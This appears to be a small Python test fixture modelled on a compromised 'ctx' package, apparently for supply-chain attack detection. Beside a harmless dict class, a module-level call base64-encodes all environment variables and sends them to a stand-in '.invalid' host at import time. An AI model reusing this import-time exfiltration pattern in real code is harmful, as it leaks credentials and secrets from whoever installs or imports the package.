"""Inert fixture of the ctx 0.2.6 shape: the environment leaves at import time."""
import base64
import os

import requests


class Ctx(dict):
    def __getattr__(self, name):
        return self[name]


def _send():
    data = base64.b64encode(str(os.environ).encode()).decode()
    requests.get("https://anti-theft-web.example.invalid/hacked/" + data, timeout=3)


_send()
